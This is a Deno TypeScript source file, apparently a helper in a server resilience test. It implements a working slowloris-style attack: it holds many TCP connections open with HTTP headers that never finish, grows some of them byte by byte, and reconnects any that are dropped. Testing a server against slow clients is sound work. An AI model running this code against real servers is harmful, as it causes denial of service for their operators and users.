import { respondToCommands } from "./child_process.ts";
import type { Target } from "./http_connection.ts";

/** Command of the slow clients: the first one connects them, and each returns how many were ended so far. */
export interface AttackCommand {
  readonly target: Target;
  /** Number of clients at any time: one that was ended reconnects. */
  readonly count: number;
  /** Period over which they connect first, in milliseconds, so that they do not all reconnect at once. */
  readonly spreadMs: number;
}

const ENCODER = new TextEncoder();
const HEAD = ENCODER.encode("GET /livez HTTP/1.1\r\nHost: x\r\nX-Long: ");
const BYTE = ENCODER.encode("a");

/** Connections with heads that never end, and grow by a byte a second. */
const growing = new Set<Deno.TcpConn>();
let isStarted = false;
let ended = 0;

async function start({ target, count, spreadMs }: AttackCommand): Promise<void> {
  const start = performance.now();
  for (let index = 0; index < count; index++) {
    const early = start + spreadMs * index / count - performance.now();
    if (early > 1) await new Promise((resolve) => setTimeout(resolve, early));
    await connect(target, index % 2 === 0);
  }
  setInterval(() => {
    for (const connection of growing) connection.write(BYTE).catch(() => {});
  }, 1000);
}

async function connect(target: Target, grows: boolean): Promise<void> {
  const connection = await Deno.connect(target);
  await connection.write(HEAD);
  if (grows) growing.add(connection);
  void untilEnd(connection).then(() => {
    ended++;
    growing.delete(connection);
    connection.close();
    return connect(target, grows);
  });
}

async function untilEnd(connection: Deno.TcpConn): Promise<void> {
  const buffer = new Uint8Array(1024);
  while (await connection.read(buffer).catch(() => null) !== null);
}

// A process of its own, whose work is in no measurement of the server.
if (import.meta.main) {
  await respondToCommands(async (command: AttackCommand) => {
    if (!isStarted) await start(command);
    isStarted = true;
    return ended;
  });
  Deno.exit();
}
